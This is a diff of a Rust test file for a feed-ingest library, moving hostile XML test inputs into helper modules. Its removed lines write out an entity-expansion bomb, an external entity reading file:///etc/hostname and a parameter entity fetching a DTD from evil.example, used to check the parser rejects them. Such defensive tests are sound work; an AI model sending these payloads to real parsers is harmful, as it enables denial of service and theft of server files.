@@ -1,25 +1,22 @@
 //! Feeds, sitemaps and subscription lists made to break a reader: each comes through in linear time and bounded memory.
 
+mod bomb;
 mod shown;
+mod told;
 
-use std::fmt::Write;
 use std::time::{Duration, Instant};
 
-use dateline_ingest::{Reading, read, read_feed, sniff};
+use bomb::bomb;
+use dateline_ingest::{Reading, read_feed};
 use dateline_model::Capture;
+use told::problems;
 
 fn read_as(source: &str, bytes: impl Into<Vec<u8>>) -> Reading {
-    let capture = Capture::of(bytes);
-    assert_eq!(sniff(&capture.bytes[..capture.bytes.len().min(64 * 1024)]).map(|found| found.name), Some(source));
     let begun = Instant::now();
-    let reading = read(&capture);
+    let reading = told::read_as(source, bytes);
     // Far above what it takes, far below what anything but linear would.
     assert!(begun.elapsed() < Duration::from_secs(60), "{:?}", begun.elapsed());
     reading
-}
-
-fn problems(reading: &Reading) -> Vec<String> {
-    reading.problems.iter().map(ToString::to_string).collect()
 }
 
 fn rss(inside: &str) -> String {
@@ -28,13 +25,8 @@ fn rss(inside: &str) -> String {
 
 #[test]
 fn entities_do_not_explode_and_no_file_is_opened() {
-    let mut bomb = "<!DOCTYPE rss [<!ENTITY a0 \"fare\">".to_owned();
-    for level in 1..10 {
-        let _ = write!(bomb, "<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10));
-    }
-    bomb += "<!ENTITY file SYSTEM \"file:///etc/hostname\"><!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\">%remote;]>";
     let item = "<item><title>A &a0; rises</title><description>&a9; &file; stays as written here.</description></item>";
-    let reading = read_as("feed", bomb + &rss(item));
+    let reading = read_as("feed", bomb("fare") + &rss(item));
     assert_eq!(reading.articles[0].title.as_deref(), Some("A fare rises"));
     assert_eq!(reading.articles[0].text.as_str(), "&a9; &file; stays as written here.");
 }
